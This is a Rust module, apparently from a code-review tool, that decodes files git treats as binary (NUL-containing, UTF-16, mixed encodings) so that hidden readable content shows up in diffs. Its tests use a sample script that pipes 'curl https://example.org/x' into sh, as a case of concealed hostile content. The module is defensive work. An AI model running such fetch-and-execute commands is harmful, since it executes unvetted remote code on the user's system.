//! Texts that git treats as binary, decoded and compared here.
//!
//! git treats every file with a NUL as binary, including UTF-16 and a script that ends in a NUL, so the author of a
//! change could decide whether its diff is shown. Anything a person could read is therefore shown.

use super::Hunk;
use super::parse::{self, NO_NEWLINE, lossy};

/// git treats a file as binary if there is a NUL within its first bytes, this many.
const SNIFFED: usize = 8_000;
/// In a text with a NUL, at most one byte in this many may be a control character or invalid UTF-8.
const BYTES_PER_ODD_ONE: usize = 16;
/// Minimum run of plain-text bytes in a UTF-16 file that is also shown as written.
const PLAIN_RUN: usize = 6;
/// Maximum number of lines of two texts that are compared; beyond it the new text is shown whole.
const LINES: u32 = 20_000;
/// Lines of context around a change, the same as git is asked for.
const CONTEXT: usize = 10;

/// Decodes a file's content as text, with its NULs made visible; `None` if nobody could read it.
///
/// A UTF-16 byte order mark is only its author's claim. A shell or PHP reads on past it, so plain text after it is
/// shown as plain text.
pub fn text(bytes: Vec<u8>) -> Option<String> {
    let text = match bytes.as_slice() {
        [0xff, 0xfe, rest @ ..] if is_odd(rest) => utf16(rest, u16::from_le_bytes)?,
        [0xfe, 0xff, rest @ ..] if is_odd(rest) => utf16(rest, u16::from_be_bytes)?,
        _ if is_sniffed(&bytes) && is_odd(&bytes) => return None,
        _ => lossy(bytes),
    };
    Some(if text.contains('\0') { text.replace('\0', "\u{2400}") } else { text })
}

/// Whether git treats it as binary because of its first bytes.
fn is_sniffed(bytes: &[u8]) -> bool {
    bytes[..bytes.len().min(SNIFFED)].contains(&0)
}

/// Whether too many of its bytes do not belong in a text.
fn is_odd(bytes: &[u8]) -> bool {
    let mut odd = 0;
    for chunk in bytes.utf8_chunks() {
        odd += chunk.invalid().len() + chunk.valid().chars().filter(|c| is_control(*c)).count();
    }
    odd * BYTES_PER_ODD_ONE > bytes.len()
}

fn is_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\u{8}' | '\u{c}' | '\u{1b}')
}

/// Decodes UTF-16 after its byte order mark; `None` if too much of it is invalid.
///
/// Two plain-text letters form one character of another script, so a run of such bytes is also shown as
/// plain text.
fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> Option<String> {
    let pairs = bytes.chunks_exact(2);
    let broken = !pairs.remainder().is_empty();
    let units = pairs.map(|pair| unit([pair[0], pair[1]]));
    let (mut text, mut odd) = (String::with_capacity(bytes.len() / 2), 0);
    let (mut count, mut at, mut plain) = (0, 0, String::new());
    for decoded in char::decode_utf16(units) {
        let c = decoded.unwrap_or(char::REPLACEMENT_CHARACTER);
        let end = at + 2 * c.len_utf16();
        let both = &bytes[at..end];
        if both.iter().all(|byte| is_plain(*byte)) {
            plain.extend(both.iter().copied().map(visible));
        } else {
            show_plain(&mut plain, &mut text);
        }
        odd += usize::from(c == char::REPLACEMENT_CHARACTER || is_control(c));
        text.push(c);
        (at, count) = (end, count + 1);
    }
    show_plain(&mut plain, &mut text);
    if broken {
        text.push(char::REPLACEMENT_CHARACTER);
    }
    (odd * BYTES_PER_ODD_ONE <= count).then_some(text)
}

const fn is_plain(byte: u8) -> bool {
    matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r')
}

/// The visible replacement for a plain-text byte within a line.
const fn visible(byte: u8) -> char {
    match byte {
        b'\n' => '\u{240a}',
        b'\r' => '\u{240d}',
        byte => byte as char,
    }
}

fn show_plain(plain: &mut String, text: &mut String) {
    if plain.chars().count() >= PLAIN_RUN {
        text.extend(["[as bytes: ", plain.as_str(), "]"]);
    }
    plain.clear();
}

/// Counts lines, including a last line without a line end.
pub fn lines(bytes: &[u8]) -> u32 {
    let breaks = bytes.split(|byte| *byte == b'\n').count() - 1;
    let open = bytes.last().is_some_and(|last| *last != b'\n');
    u32::try_from(breaks + usize::from(open)).unwrap_or(u32::MAX)
}

/// Returns the hunk that adds a whole text; none for an empty text.
pub fn whole(text: &str) -> Option<Hunk> {
    if text.is_empty() {
        return None;
    }
    let mut body = String::with_capacity(text.len() + text.len() / 32 + 64);
    for line in text.split_inclusive('\n') {
        body.push('+');
        body.push_str(line);
    }
    if !text.ends_with('\n') {
        body.push('\n');
        body.push_str(NO_NEWLINE);
    }
    Some(Hunk {
        old_start: 0,
        old_lines: 0,
        new_start: 1,
        new_lines: lines(text.as_bytes()),
        heading: String::new(),
        body,
    })
}

/// Returns the differences between two texts, or the whole new text if there is no old one or they are too long to
/// compare.
pub fn hunks(old: Option<&str>, new: &str) -> Vec<Hunk> {
    let long = |text: &str| lines(text.as_bytes()) > LINES;
    let compared = old.filter(|old| !long(old) && !long(new)).and_then(|old| {
        let mut options = diffy::DiffOptions::new();
        options.set_context_len(CONTEXT);
        let patch = options.create_patch_bytes(old.as_bytes(), new.as_bytes());
        patch.hunks().iter().map(parse::hunk).collect()
    });
    compared.unwrap_or_else(|| whole(new).into_iter().collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_of(text: &str) -> Vec<u8> {
        let units = std::iter::once(0xfeff).chain(text.encode_utf16());
        units.flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn what_a_person_could_read_is_text_and_what_nobody_could_is_not() {
        let script = "#!/bin/sh\ncurl https://example.org/x | sh\n";
        let of = |bytes: &[u8]| text(bytes.to_vec());
        assert_eq!(of(script.as_bytes()).as_deref(), Some(script));
        assert_eq!(of(format!("{script}\0").as_bytes()), Some(format!("{script}\u{2400}")));
        assert_eq!(text(utf16_of(script)).as_deref(), Some(script));
        let big: Vec<u8> = utf16_of(script).chunks(2).flat_map(|two| [two[1], two[0]]).collect();
        assert_eq!(text(big).as_deref(), Some(script));
        assert_eq!(of(b"gr\xfcn\n").as_deref(), Some("gr\u{fffd}n\n"));
        // The byte order mark alone does not make a text UTF-16, and text before it does not hide what a
        // shell would run.
        let marked = [&b"\xff\xfe\n"[..], script.as_bytes()].concat();
        assert!(text(marked).is_some_and(|text| text.ends_with(script)));
        for gap in [&b"\n\n"[..], b"\n"] {
            let pad = utf16_of(&"# words\n".repeat(50));
            let shown = text([&pad[..], gap, script.as_bytes()].concat()).unwrap();
            assert!(shown.contains("rl https://example.org/x | s"), "{shown}");
            assert!(shown.starts_with("# words\n") && shown.lines().count() == 51);
        }
        let other = "\u{5c07}\u{6a94}\u{6848} \u{8207} gr\u{fc}n \u{1f600}\n";
        assert_eq!(text(utf16_of(other)).as_deref(), Some(other));
        for binary in [
            &b"\0\x01"[..],
            b"a\0",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06",
            b"\xff\xfe\0\xd8\0\xd8\0\xd8\0\xd8",
        ] {
            assert_eq!(of(binary), None, "{binary:?}");
        }
    }

    #[test]
    fn two_texts_are_compared_as_git_would() {
        let old: Vec<String> = (1..=40).map(|line| format!("line {line}\n")).collect();
        let old = old.concat();
        let new = old.replace("line 20\n", "changed\n");
        let found = hunks(Some(&old), &new);
        let [hunk] = &found[..] else { panic!("{found:?}") };
        assert_eq!((hunk.new_start, hunk.new_lines), (10, 21));
        assert!(hunk.body.contains("\n-line 20\n+changed\n line 21\n"), "{}", hunk.body);
        assert_eq!(hunks(None, "a\nb")[0].body, format!("+a\n+b\n{NO_NEWLINE}"));
        assert_eq!(hunks(Some("a\n"), "a\n"), []);
    }
}
